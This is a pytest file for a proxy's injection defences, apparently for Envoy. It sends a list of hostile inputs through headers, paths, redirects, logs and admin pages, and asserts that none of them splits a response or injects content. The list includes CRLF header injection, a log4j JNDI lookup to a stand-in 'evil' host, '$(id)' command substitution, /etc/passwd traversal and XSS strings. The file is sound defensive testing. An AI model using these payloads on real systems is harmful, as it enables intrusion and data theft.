"""Values of clients and upstreams that end up in what we write: headers, redirects, local replies, logs, pages. None can end a line, or speak for us."""

from __future__ import annotations

import asyncio
import json
from typing import Any

import pytest

from tests.attack.readings import one_reading
from tests.attack.target import Target, arena, http
from tests.differential.config import cluster, file_log, filter_
from tests.differential.wire import Request, answer
from tests.polling import until

FORMATS = {
    "x-path": "%REQ(:PATH)%", "x-host": "%REQ(:AUTHORITY)%", "x-header": "%REQ(X-EVIL)%", "x-query": "%QUERY_PARAM(q)%",
    "x-short": "%REQ(X-EVIL):5%", "x-alternative": "%REQ(X-NONE?X-EVIL)%",
}  # fmt: skip
ADDED = [{"header": {"key": key, "value": f"<{value}>"}} for key, value in FORMATS.items()]
RESPONSE = [*ADDED, {"header": {"key": "x-theirs", "value": "%RESP(X-THEIRS)%"}}]
ROUTES: list[dict[str, Any]] = [
    {"match": {"prefix": "/redirect"}, "redirect": {"https_redirect": True}},
    {"match": {"prefix": "/path"}, "redirect": {"path_redirect": "/new"}},
    {"match": {"prefix": "/prefix"}, "redirect": {"prefix_rewrite": "/new"}},
    {"match": {"safe_regex": {"regex": "/regex/(.*)"}}, "redirect": {"regex_rewrite": {"pattern": {"regex": "/regex/(.*)"}, "substitution": r"/\1"}}},
    {"match": {"prefix": "/direct"}, "direct_response": {"status": 200, "body": {"inline_string": "direct"}}, "response_headers_to_add": ADDED},
    {
        "match": {"safe_regex": {"regex": "/rewrite/(.*)"}},
        "route": {"cluster": "a", "regex_rewrite": {"pattern": {"regex": "/rewrite/(.*)"}, "substitution": r"/to/\1"}, "host_rewrite_header": "x-evil"},
    },
    {"match": {"prefix": "/byheader"}, "route": {"cluster_header": "x-evil"}},
    {"match": {"prefix": "/dead"}, "route": {"cluster": "dead"}},
    {"match": {"prefix": "/"}, "route": {"cluster": "a", "timeout": "0s"}, "request_headers_to_add": ADDED, "response_headers_to_add": RESPONSE},
]
HOSTS = [{"name": "all", "domains": ["*"], "routes": ROUTES}]
JSON_FIELDS = {"path": "%REQ(:PATH)%", "header": "%REQ(X-EVIL)%", "host": "%REQ(:AUTHORITY)%", "theirs": "%RESP(X-THEIRS)%", "agent": "%REQ(USER-AGENT)%"}
TEXT = "BEGIN|" + "|".join(JSON_FIELDS.values()) + "|%UPSTREAM_TRANSPORT_FAILURE_REASON%|END\n"
LOCAL_REPLY = {"body_format": {"json_format": {"path": "%REQ(:PATH)%", "header": "%REQ(X-EVIL)%", "body": "%LOCAL_REPLY_BODY%"}}}
MUTATIONS = filter_(
    "header_mutation", mutations={"response_mutations": [{"append": {"header": {"key": "x-mutated", "value": "%REQ(X-EVIL)%"}}}],
                                  "query_parameter_mutations": [{"append": {"record": {"key": "added", "value": "%REQ(X-EVIL)%"}}}]},
)  # fmt: skip
CONFIG = arena(
    http("main", HOSTS, access_log=[file_log(TEXT, file="text.log"), file_log(file="json.log", log_format={"json_format": JSON_FIELDS})]),
    http("json_replies", HOSTS, local_reply_config=LOCAL_REPLY),
    http("mutated", HOSTS, filters=[MUTATIONS]),
    http("<script>alert(1)</script>", HOSTS),
    clusters=[cluster("a"), cluster("dead"), cluster("<img src=x onerror=alert(1)>", "a")],
)

# What may legally stand in a header value or a target, and hurts where it is taken for more than data.
EVIL = [
    b"%0d%0aX-Injected: 1%0d%0a%0d%0a<html>", b"%0aX-Injected:%201", b"%E5%98%8A%E5%98%8DX-Injected:1", b"\\r\\nX-Injected: 1", b"\\u000a",
    b"a\xe5\x98\x8a\xe5\x98\x8dX-Injected: 1", b"\x85X-Injected: 1", b"\xe2\x80\xa8X-Injected: 1", b"caf\xc3\xa9 \xff\xfe", b"a\tb", b"|END",
    b"%REQ(AUTHORIZATION)%", b"%%", b"%", b"%RESPONSE_CODE%", b"%(name)s", b"%s%n%x", b"{0.__class__}", b"{{7*7}}", b"${jndi:ldap://evil/a}", b"`id`", b"$(id)",
    b'","injected":"1', b"\\", b'"', b"'", b"<script>alert(1)</script>", b"../../etc/passwd", b"\\1\\2\\0", b"x" * 20_000,
]  # fmt: skip


def target_of(value: bytes) -> bytes:
    """The value as it can stand in a request target: what cannot is percent-encoded."""
    return b"".join(bytes((byte,)) if 0x21 <= byte <= 0x7E and byte != 0x23 else b"%%%02X" % byte for byte in value)


def check_head(data: bytes) -> None:
    """One response, none of whose lines was made by a value."""
    head, _, _ = data.partition(b"\r\n\r\n")
    lines = head.split(b"\r\n")
    assert data.count(b"\r\nHTTP/1.1 ") == 0
    for line in lines:
        assert not set(line) & set(b"\r\n\0"), line
        assert not line.lower().startswith(b"x-injected"), line
    names = [line.partition(b":")[0] for line in lines[1:]]
    assert all(name and set(name) <= set(b"abcdefghijklmnopqrstuvwxyz0123456789-") for name in names), names


@pytest.mark.parametrize("listener", ["main", "json_replies", "mutated"])
async def test_response_splitting(target: Target, listener: str):
    """Every way from a request into a response's head, with every evil value."""
    paths = [
        b"/redirect/%b?q=%b",
        b"/path?%b%b",
        b"/prefix/%b?q=%b",
        b"/regex/%b/%b",
        b"/direct/%b?q=%b",
        b"/rewrite/%b/%b",
        b"/up/%b?q=%b",
        b"/byheader?q=%b%b",
        b"/dead?q=%b%b",
    ]
    requests = []
    for value in EVIL:
        part = target_of(value)
        for path in paths:
            requests.append(
                b"GET "
                + path % (part, part)
                + b" HTTP/1.1\r\nHost: a.test\r\nX-Evil: "
                + value
                + b"\r\nUser-Agent: "
                + value
                + b"\r\nConnection: close\r\n\r\n"
            )
    target.upstream("a", [Request(), answer(x_theirs="theirs")])
    answers = await asyncio.gather(*(target.send(request, listener=listener) for request in requests))
    for reply in answers:
        assert reply.end
        check_head(reply.data)
    # What went upstream is a request for each that says so, for everybody.
    for wire in target.upstreams["a"].connections:
        one_reading(bytes(wire.received))
        assert b"x-injected" not in {line.partition(b":")[0].lower() for line in bytes(wire.received).split(b"\r\n")}


async def test_upstream_values(target: Target):
    """The same from upstreams, for header values that they choose."""
    for value in EVIL:
        target.upstream("a", [Request(), b"HTTP/1.1 200 OK\r\nx-theirs: " + value + b"\r\nlocation: " + value + b"\r\ncontent-length: 2\r\n\r\nok"])
        check_head((await target.send(b"GET / HTTP/1.1\r\nHost: a.test\r\nConnection: close\r\n\r\n")).data)


async def test_configured_values_are_checked_when_they_are_made(target: Target):
    """A header that a route chooses the host or cluster by is data: nothing is looked up by it that does not exist."""
    for value in EVIL:
        request = b"GET /byheader HTTP/1.1\r\nHost: a.test\r\nX-Evil: " + value + b"\r\nConnection: close\r\n\r\n"
        assert (await target.send(request)).statuses == [503]


async def test_log_injection(target: Target):
    """One line for each request, in both formats, and in the JSON one exactly what was said."""
    folder = target.folder
    before = {name: (folder / name).read_bytes().count(b"\n") if (folder / name).exists() else 0 for name in ("text.log", "json.log")}
    asked = target.neighbour.answered
    for value in EVIL:
        await target.send(
            b"GET /up/" + target_of(value) + b" HTTP/1.1\r\nHost: a.test\r\nX-Evil: " + value + b"\r\nUser-Agent: " + value + b"\r\nConnection: close\r\n\r\n"
        )

    def written() -> bool:
        count = (folder / "text.log").read_bytes().count(b"|END\n") - before["text.log"]
        return count >= len(EVIL) and b"/etc/passwd" in (folder / "json.log").read_bytes()

    await until(written)
    lines = [line for line in (folder / "text.log").read_bytes().split(b"\n")[before["text.log"] : -1] if b"|polite.test|" not in line]
    assert len(lines) == len(EVIL)
    assert all(line.startswith(b"BEGIN|/up/") and line.endswith(b"|END") for line in lines)
    entries = [json.loads(line) for line in (folder / "json.log").read_bytes().split(b"\n")[before["json.log"] : -1]]
    entries = [entry for entry in entries if entry["host"] == "a.test"]
    assert [entry["path"] for entry in entries] == ["/up/" + target_of(value).decode() for value in EVIL]
    assert all(set(entry) == set(JSON_FIELDS) for entry in entries)
    for entry, value in zip(entries, EVIL, strict=True):
        assert entry["header"] in {value.decode("latin-1"), value.decode("utf-8", "surrogateescape")} or b"\xff" in value
    assert target.neighbour.answered >= asked


async def test_json_replies(target: Target):
    """A local reply in JSON holds what the client said as data."""
    for value in EVIL[:-1]:
        request = b"GET /dead/" + target_of(value) + b" HTTP/1.1\r\nHost: a.test\r\nX-Evil: " + value + b"\r\nConnection: close\r\n\r\n"
        reply = await target.send(request, listener="json_replies")
        body = json.loads(reply.data.partition(b"\r\n\r\n")[2])
        assert set(body) == {"path", "header", "body"}
        assert body["path"] == "/dead/" + target_of(value).decode()


async def test_names_in_admin_pages(target: Target):
    """Names of listeners and clusters, which others may choose, are no HTML (CVE-2026-73546)."""
    for path in (
        "/",
        "/stats?format=html",
        "/stats?format=active-html",
        "/stats?format=html&filter=<script>alert(2)</script>",
        "/help",
        "/<script>alert(3)</script>",
    ):
        raw = await target.proxy.admin_raw(b"GET " + path.encode() + b" HTTP/1.1\r\nhost: admin\r\n\r\n")
        head, _, body = raw.partition(b"\r\n\r\n")
        if b"text/html" in head:
            assert b"<script>alert" not in body
            assert b"<img src=x" not in body
        else:
            assert b"x-content-type-options: nosniff" in head.lower()
    raw = await target.proxy.admin_raw(b"GET /stats?format=html HTTP/1.1\r\nhost: admin\r\n\r\n")
    assert b"&lt;script&gt;alert(1)" in raw


async def test_names_in_metrics(target: Target):
    """Nor can they make lines of their own in what Prometheus reads."""
    _, text = await target.proxy.admin("GET", "/stats/prometheus")
    for line in text.splitlines():
        assert line.startswith(("envoy_", "# ")) or not line, line
